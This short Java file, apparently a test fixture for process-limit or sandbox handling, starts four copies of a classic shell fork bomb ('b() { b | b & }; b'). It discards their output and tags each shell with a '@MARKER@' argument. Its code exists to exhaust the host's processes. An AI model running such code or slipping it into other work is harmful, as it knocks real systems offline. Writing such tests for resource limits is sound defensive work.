// A shell fork bomb, started from Java; every shell carries the marker on its command line.
import java.io.File;

public class ForkBomb {
  public static void main(String[] args) throws Exception {
    for (int i = 0; i < 4; i++) {
      try {
        new ProcessBuilder("/bin/sh", "-c", "b() { b | b & }; b; sleep 60", "@MARKER@")
            .redirectOutput(ProcessBuilder.Redirect.DISCARD)
            .redirectError(ProcessBuilder.Redirect.DISCARD)
            .start();
      } catch (Exception e) {
        // out of processes already
      }
    }
    Thread.sleep(60_000);
  }
}
